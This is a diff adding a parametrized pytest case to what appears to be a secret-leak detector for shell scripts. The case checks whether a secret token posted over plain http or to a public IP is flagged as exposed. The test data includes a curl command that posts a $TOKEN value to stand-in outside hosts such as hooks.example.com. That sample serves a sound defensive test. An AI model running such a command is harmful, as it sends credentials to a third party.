@@ -131,6 +131,23 @@ def test_hosts_that_anybody_collects_with(to: str, *, collected: bool) -> None:
     assert [leak.collected for leak in leaks(script, HELD)[0]] == [collected]
 
 
+@pytest.mark.parametrize(
+    ("address", "raw"),
+    [
+        ("http://hooks.example.com/x", True),
+        ("https://hooks.example.com/x", False),
+        ("https://203.0.113.9/x", True),
+        ("http://10.1.2.3:8080/x", False),
+        ("http://vault.internal/x", False),
+        ("http://vault:8200/x", False),
+    ],
+)
+def test_hosts_that_a_secret_reaches_unprotected(address: str, *, raw: bool) -> None:
+    text = f'curl -d "$TOKEN" {address}'
+    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
+    assert [leak.raw for leak in leaks(script, HELD)[0]] == [raw]
+
+
 def test_powershell_prints_too() -> None:
     assert look('Write-Host "x $env:TOKEN"', "pwsh") == [("log", "Write-Host", "", False)]
     assert look("print(TOKEN)", "python") == []
